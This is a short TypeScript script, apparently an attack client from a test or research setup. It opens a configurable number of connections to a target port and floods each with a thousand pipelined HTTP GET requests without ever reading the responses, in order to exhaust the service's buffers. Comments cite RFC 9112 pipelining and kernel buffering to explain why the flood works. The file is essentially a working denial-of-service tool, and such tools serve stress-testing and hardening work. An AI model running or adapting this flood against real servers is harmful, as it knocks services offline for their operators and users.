import { args, flood, inPlace, open } from './attacker.ts';

/* RFC 9112, 9.3.2 allows pipelining. This client pipelines without end and never reads an answer. */
const {
  paths: [path],
  connections,
  ...target
} = args();
const port = target[target.listener];
for (let number = 0; number < connections; number += 1) {
  const socket = await open(port);
  flood(socket, `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(1000));
}
// The kernel takes some megabytes of answers before any is left in the service.
setTimeout(inPlace, 1500);
